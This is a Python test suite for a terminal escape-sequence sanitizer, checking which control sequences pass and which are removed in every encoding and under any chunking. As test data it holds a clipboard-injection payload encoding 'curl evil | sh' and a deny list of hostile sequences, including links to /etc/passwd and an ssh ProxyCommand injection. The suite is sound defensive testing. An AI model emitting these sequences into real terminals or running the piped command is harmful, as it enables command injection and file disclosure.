"""What passes to the terminal and what does not, in every encoding and cut in any way."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.sandbox.emulator import Emulator
from wrapify.sandbox.plain import is_plain
from wrapify.sandbox.sieve import LONGEST, REPLACEMENT, Sieve

CLIPBOARD = base64.b64encode(b"curl evil | sh\n").decode()

ALLOWED = """
ESC[31m ESC[0;1;38;2;1;2;3m ESC[4:3m ESC[38:2::1:2:3m ESC[m ESC[2J ESC[3J ESC[K ESC[10;20H ESC[5A ESC[1;24r ESC[s
ESC[u ESC[6n ESC[5n ESC[c ESC[>c ESC[=c ESC[>q ESC[?25l ESC[?25h ESC[?1049h ESC[?1049l ESC[?1000;1006h ESC[?2004h
ESC[?2026h ESC[?1h ESC= ESC> ESC7 ESC8 ESCM ESCc ESC(B ESC(0 ESC)0 ESC#8 ESC[!p ESC[2␣q ESC[?2026$p ESC[4h ESC[20l
ESC[18t ESC[14t ESC[16t ESC[22;0;0t ESC[23;0;0t ESC[22;2t ESC[>4;2m ESC[>4m ESC[?4m ESC[?u ESC[>1u ESC[<u ESC[=5;1u
ESC[3b ESC[?1c ESC[?6n ESC[?996n ESC]8;;https://example.org/a?b=cESC\\ ESC]8;;BEL ESC]8;id=a:b=c;http://x/BEL
ESC]10;?BEL ESC]11;?ESC\\ ESC]4;7;?;8;?BEL ESC]104BEL ESC]104;7BEL ESC]112ESC\\ ESC]12;#ff0000BEL ESCP$qmESC\\
ESCP$q␣qESC\\ ESCP=1sESC\\ ESC[1;2;3;4;1;2$r ESC[2S ESC[2T
""".split()

# Without ESC; a string ends with ";", which stands for each end a string can have.
DENIED = {
    "clipboard": "]52;c;{};  ]52;p;{}; ]52;;{}; ]52;c;?; ]052;c;{}; ]5522;x;",
    "titles": "]0;rm; ]1;rm; ]2;rm; ]l; ]Lx; ]3;X=1; ]00;rm; krm;",
    "reports": """[21t [20t [11t [13t [15t [19;2t [x [1x [?15n [?25n [?26n [1$w [2$w [1;1;1;1;1;1*y P+q5443; P$qx;
        P$q1337; P1$qm; P+p544e; [#| [1'| [?1;1;1S [1;2y Z""",
    "keys": "P0;1|17/6c73; P1|17; [?67h [?1051h [?1060h [?1061h [?9001h [2h [12h [>1p [>1s [1;2>p",
    "files": """]1337;File=name=YQ==:YQ==; ]1337;CopyToClipboard=;x; ]5113;ac=send; ]9;x; ]99;;x; ]777;notify;a;b;
        ]133;A; ]633;P; ]7;file://h/tmp; ]50;?; ]50;x; ]51;x; ]46;/tmp/x; ]30;x; ]6;x; ]66;x; ]22;x; ]21;a=?;
        _Ga=T,t=f;L2V0Yy9wYXNzd2Q=; _Ga=T,t=t;YQ; _Ga=T,t=s;YQ; ^x; Xx;""",
    "printer": "[i [5i [4i [?5i [?4i [?1i",
    "window": "[1t [2t [3;0;0t [4;1;1t [5t [6t [7t [8;100;100t [9;1t [10;1t [24t [22;3t [>1t [>2T [1;1;1;1;1T",
    "colours": "]4;1;red; ]10;red; ]11;#000; ]4;1;?;2;red; ]10;?;red; ]5;1;red;",
    "parsing": """[?2l [?2h [?38h [?46h [?1001h [61"p [62;1"p %@ %G %8 ␣F ␣G l n o | } ~ N O F V (%5 [[ [9;1]
        [?25;46h""",
    "pictures": "Pq#0;2;0;0;0; P0;0;0q#0; Ppx; P1;1;1{x; ]1337;x;",
    "past a multiplexer": "Ptmux;ESCESC]52;c;{}BEL; PESC]52;c;{}BEL; Ptmux;x;",
    "links": "]8;;file:///etc/passwd; ]8;;ssh://-oProxyCommand=x; ]8;;javascript:1; ]8;;x-man-page://x; ]8;;http://␣;",
}


def spelled(word: str) -> bytes:
    return word.replace("ESC", "\x1b").replace("BEL", "\x07").replace("␣", " ").encode()


def spellings(word: str) -> list[bytes]:
    """Give a sequence in seven bits and as a C1 control of UTF-8 and of eight bits, with each end a string can have."""
    word = spelled(word.replace("{}", CLIPBOARD)).decode()
    intro, body = word[0], word[1:]
    starts = [b"\x1b" + intro.encode()]
    if intro in "PX[]^_" and intro + body[:1] != "[]":
        code = ord(intro) + 0x40
        starts += [chr(code).encode(), bytes([code])]
    if not body.endswith(";") or intro not in "PX]^_k":
        return [start + body.encode() for start in starts]
    ends = [b"\x07", b"\x1b\\", "\x9c".encode(), b"\x9c", b"\x18", b"\x1a"]
    return [start + body[:-1].encode() + end for start in starts for end in ends]


BAD = {kind: [one for word in words.split() for one in spellings(word)] for kind, words in DENIED.items()}


def through(data: bytes, *, size: int = 0, **how: bool) -> bytes:
    sieve = Sieve(**how)
    pieces = [data[at : at + size] for at in range(0, len(data), size)] if size else [data]
    return b"".join(map(sieve.feed, pieces)) + sieve.end()


@pytest.mark.parametrize("word", ALLOWED)
@pytest.mark.parametrize("size", [0, 1])
def test_what_draws_passes_byte_for_byte(word: str, size: int) -> None:
    data = b"a" + spelled(word) + "é".encode() + spelled(word)
    assert through(data, size=size) == data


@pytest.mark.parametrize("utf8", [True, False])
@pytest.mark.parametrize("kind", BAD)
def test_nothing_of_what_acts_is_carried_out(kind: str, utf8: bool) -> None:
    for bad in BAD[kind]:
        whole = b"before" + bad + b"after\r\n"
        left = through(whole, utf8=utf8)
        assert left == through(whole, size=1, utf8=utf8)
        assert left.startswith(b"before")
        harmless(left)
        if b"\x9c" not in bad and bad[0] == 0x1B and b"\x1b]52" not in bad[1:]:
            assert left == b"beforeafter\r\n", bad


def test_titles_pass_if_allowed() -> None:
    for bad in BAD["titles"]:
        seven_bit = bad.startswith(b"\x1b") and bad.endswith((b"\x07", b"\x1b\\"))
        passes = bool(re.match(rb"\x1b\][012];", bad)) and seven_bit
        assert through(bad, titles=True) == (bad if passes else through(bad))
    assert through(b"\x1b]2;\xc3\xa9\xe2\x9c\x9c\x1b\\", titles=True) == b"\x1b]2;\xc3\xa9\xe2\x9c\x9c\x1b\\"
    assert through(b"\x1b]2;a\nb\x07c", titles=True) == b"c"
    assert through(b"\x1b]2;" + b"a" * 300 + b"\x07c", titles=True) == b"c"


def test_controls_that_answer_or_begin_something_do_not_pass() -> None:
    assert through(b"a\x05b") == b"ab"
    assert through("a\x84\x85\x8d\x8e\x8f\x9a\x9cb".encode()) == b"ab"
    assert through(b"a\x84\x85\x9cb", utf8=False) == b"ab"
    assert through(b"a\x07\x08\x0e\x0f\t\r\n\x00\x7fb") == b"a\x07\x08\x0e\x0f\t\r\n\x00\x7fb"


def test_what_is_no_utf8_becomes_what_a_terminal_shows_for_it() -> None:
    assert (
        through(b"a\x9b31mb\xff\xc0\x9bc\xe2\x82") == REPLACEMENT.join([b"a", b"31mb", b"", b"", b"c", b"", b""])[:-3]
    )
    assert through(b"caf\xe9", utf8=False) == b"caf\xe9"
    assert through("ünïcödé 漢字 🦀\u00a0°".encode()) == "ünïcödé 漢字 🦀\u00a0°".encode()


def test_a_sequence_broken_off_does_not_take_along_what_follows() -> None:
    assert through(b"\x1b[31\nhello") == b"\nhello"
    assert through(b"\x1b]52;c;\x1b[31mred") == b"\x1b[31mred"
    assert through(b"\x1b\x1b[31m") == b"\x1b[31m"
    assert through(b"\x1b\xc3\xa9") == "é".encode()
    assert through(b"\x1b[12\xc3\xa9") == "é".encode()


STARTS = [b"\x1b]52;c;", b"\x1bP+q", b"\x1b_G", b"\x1b[", b"\x1b%", "\x9d".encode(), b"\x1b]8;;https://a/"]


@pytest.mark.parametrize("start", STARTS)
def test_what_has_no_end_takes_no_memory(start: bytes) -> None:
    body = {b"\x1b[": b"1;", b"\x1b%": b" "}.get(start, b"a")
    sieve = Sieve()
    passed = sieve.feed(start) + b"".join(sieve.feed(body * 1000) for _ in range(50))
    assert passed == b""
    assert len(sieve._held) <= LONGEST
    end = b"m" if body != b"a" else b"\x1b\\"
    assert b"".join(sieve.feed(bytes([one])) for one in end + b"\x1b[mafter") == b"\x1b[mafter"


def harmless(data: bytes) -> None:
    """Hold what passed against terminals of each encoding: all it carries out is on the list, and nothing is open."""
    for eight in (False, True):
        emulator = Emulator(eight=eight).feed(data) if data.isascii() or not eight else Emulator().feed(data)
        for kind, text in emulator.acts:
            wholes = {"csi": f"\x1b[{text}", "osc": f"\x1b]{text}\x07", "dcs": f"\x1bP{text}\x1b\\"}
            whole = wholes.get(kind, f"\x1b{text}")
            assert kind in ("csi", "osc", "dcs", "esc"), (kind, text)
            assert not re.match(r"52|[0-36]?;|7;|9|133|777|50", text) or kind != "osc", text
            assert through(whole.encode()) == whole.encode(), whole
        assert emulator.state == "ground", data


PIECES = st.one_of(
    st.sampled_from([one for ones in BAD.values() for one in ones]),
    st.sampled_from([spelled(word) for word in ALLOWED]),
    st.sampled_from([b"\x1b", b"\x1b[", b"\x1b]", b"\x1bP", b"]52;c;eA==", b"\x07", b"\x1b\\"]),
    st.sampled_from([b"\xc2", b"\x9c", b"\x9d", b"\xe2", b"\xf0\x9f"]),
    st.text(max_size=8).map(lambda text: text.encode("utf-8", "surrogatepass")),
    st.binary(max_size=8),
)
STREAM = st.lists(PIECES, max_size=12).map(b"".join)


@settings(max_examples=400, deadline=None)
@given(STREAM, st.booleans(), st.data())
def test_any_cut_gives_the_same(data: bytes, utf8: bool, draw) -> None:
    sieve, passed, at = Sieve(utf8=utf8), b"", 0
    while at < len(data):
        size = draw.draw(st.integers(1, 20))
        passed += sieve.feed(data[at : at + size])
        at += size
    assert passed + sieve.end() == through(data, utf8=utf8) == through(data, size=1, utf8=utf8)


@settings(max_examples=400, deadline=None)
@given(STREAM)
def test_whatever_comes_only_what_is_on_the_list_is_carried_out(data: bytes) -> None:
    passed = through(data)
    passed.decode("utf-8")
    harmless(passed)
    assert through(passed) == passed


@settings(max_examples=300, deadline=None)
@given(STREAM)
def test_of_eight_bits_too(data: bytes) -> None:
    passed = through(data, utf8=False)
    assert not re.search(rb"[\x05\x80-\x9f]", passed)
    emulator = Emulator(eight=True).feed(passed)
    assert all(kind in ("csi", "osc", "dcs", "esc") for kind, _ in emulator.acts)
    assert emulator.state == "ground"


def slowly(data: bytes, *, utf8: bool) -> bytes:
    """Give what passes where nothing is taken for plain at a look: ENQ, which is taken out, forbids that."""
    sieve = Sieve(utf8=utf8)
    return sieve.feed(data + b"\x05") + sieve.end()


@settings(max_examples=400, deadline=None)
@given(STREAM, st.booleans())
def test_what_is_plain_at_a_look_is_what_would_pass(data: bytes, utf8: bool) -> None:
    assert not is_plain(data, utf8=utf8) or slowly(data, utf8=utf8) == data


@pytest.mark.parametrize("text", ["", "a\r\n", "é °«»", "\x1b[31mred\x1b[0m\x1b[K", "\x1b[1;2Hé"])
def test_text_and_colours_are_plain(text: str) -> None:
    assert is_plain(text.encode(), utf8=True)


@pytest.mark.parametrize(
    "data", [b"\x1b", b"\x1b[1", b"\x1b[?25h", b"\x1b]0;", b"\x05", b"\xc2\x9b1m", b"\xc2", b"\xff", b"\x9b"]
)
def test_what_is_not_plain(data: bytes) -> None:
    assert not is_plain(data, utf8=True)
    assert not is_plain(data, utf8=False)
